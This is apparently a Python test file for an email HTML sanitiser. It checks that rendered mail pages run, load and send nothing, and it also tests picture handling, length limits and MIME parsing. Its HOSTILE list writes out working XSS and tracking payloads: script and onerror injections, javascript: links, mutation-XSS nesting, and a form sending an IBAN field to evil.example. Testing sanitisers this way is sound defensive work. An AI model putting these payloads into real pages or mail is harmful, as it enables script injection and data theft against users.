"""Whatever stands in the HTML of a mail, the page that is made of it runs nothing, loads nothing and sends nothing."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.channels.email.reading import read_email, read_sent
from pipelines.channels.html_page import MAX_SHOWN_CHARS, safe_page

PICTURES = {"logo@mail": "/api/cases/C-1/photos/m.f1"}
HOSTILE = (
    "<script>x()</script>",
    "<img src=x onerror=x()>",
    '<img src="http://evil.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="data:image/svg+xml,<svg onload=x()>">',
    '<img srcset="http://evil.example/a.png 2x" src="cid:logo@mail">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<link rel="prefetch" href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/a.css">',
    "<style>@import url(http://evil.example/a.css);</style>",
    '<p style="background: url(http://evil.example/a.png)">hi</p>',
    '<table background="http://evil.example/a.png"><tr><td>hi</table>',
    '<form action="http://evil.example"><input name=iban><button>Send</button></form>',
    '<svg><image href="http://evil.example/a.png"/><script>x()</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>",
    '<iframe srcdoc="<script>x()</script>"></iframe><object data="http://evil.example"></object>',
    '<a href="javascript:x()">a</a><a href="http://evil.example" ping="http://evil.example">b</a>',
    '<video src="http://evil.example/a.mp4" poster="http://evil.example/a.png"></video>',
    '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
    "<!--[if mso]><img src=http://evil.example/a.png><![endif]-->",
)
TAGS = st.sampled_from(
    ("<b>", "</b>", "<td>", "<p style='", "<a href=", "<img src='cid:logo@mail'", ">", "'", "\0", "é")
)


class Read(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def harmless(page: str) -> bool:
    loads = {"script", "style", "link", "meta", "base", "form", "input", "button", "iframe", "object", "svg", "video"}
    return all(
        tag not in loads
        and not any(name.startswith("on") or name in ("style", "href", "srcset", "background") for name in attrs)
        and attrs.get("src", "/api/") in ("/api/", PICTURES["logo@mail"])
        for tag, attrs in Read(page).found
    )


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_of_a_hostile_mail_runs_loads_or_sends(source: str) -> None:
    page = safe_page(f"<p>before</p>{source}<p>after</p>", PICTURES).html

    assert harmless(page)
    assert "evil.example" not in page
    assert "before" in page


@given(st.lists(st.one_of(TAGS, st.sampled_from(HOSTILE), st.text(max_size=5)), max_size=30))
def test_no_mix_of_pieces_makes_a_page_that_does_harm(pieces: list[str]) -> None:
    assert harmless(safe_page("".join(pieces), PICTURES).html)


def test_pictures_of_the_mail_are_shown_and_those_from_elsewhere_are_counted() -> None:
    source = '<img src="cid:logo@mail" width="12" height="99999"><img src="https://evil.example/p"><img src="cid:no">'

    page = safe_page(source, PICTURES)

    assert f'src="{PICTURES["logo@mail"]}"' in page.html
    assert 'width="12"' in page.html
    assert "99999" not in page.html
    assert page.left_out == 2


def test_a_page_that_is_too_long_is_cut_and_one_nested_too_deep_is_blank() -> None:
    long = safe_page("<p>x</p>" * MAX_SHOWN_CHARS, {})

    assert long.cut
    assert len(long.html) <= MAX_SHOWN_CHARS + 100
    assert safe_page("<div>" * 50_000, {}).html == ""


def test_pictures_are_numbered_as_the_files_of_the_mail() -> None:
    inner = "Content-Type: message/rfc822\r\n\r\nFrom: b@example.org\r\nSubject: inner\r\n\r\nhello\r\n"
    picture = "Content-Type: image/png; name=p{n}.png\r\nContent-ID: <p{n}@mail>\r\n\r\nAAAA\r\n"
    parts = ["Content-Type: text/html\r\n\r\n<b>hi</b>\r\n", picture.format(n=1), inner, picture.format(n=2)]
    raw = (
        "From: a@example.org\r\nContent-Type: multipart/related; boundary=x\r\n\r\n"
        + "".join(f"--x\r\n{p}" for p in parts)
        + "--x--\r\n"
    ).encode()

    sent, files = read_sent(raw), read_email(raw).attachments

    assert sent.html.strip() == "<b>hi</b>"
    assert {re.sub("@.*", ".png", id_): n for id_, n in sent.pictures.items()} == {
        file.name: n for n, file in enumerate(files, 1) if file.name.endswith(".png")
    }


def test_a_mail_without_html_has_no_layout() -> None:
    assert read_sent(b"From: a@example.org\r\n\r\nhello").html == ""
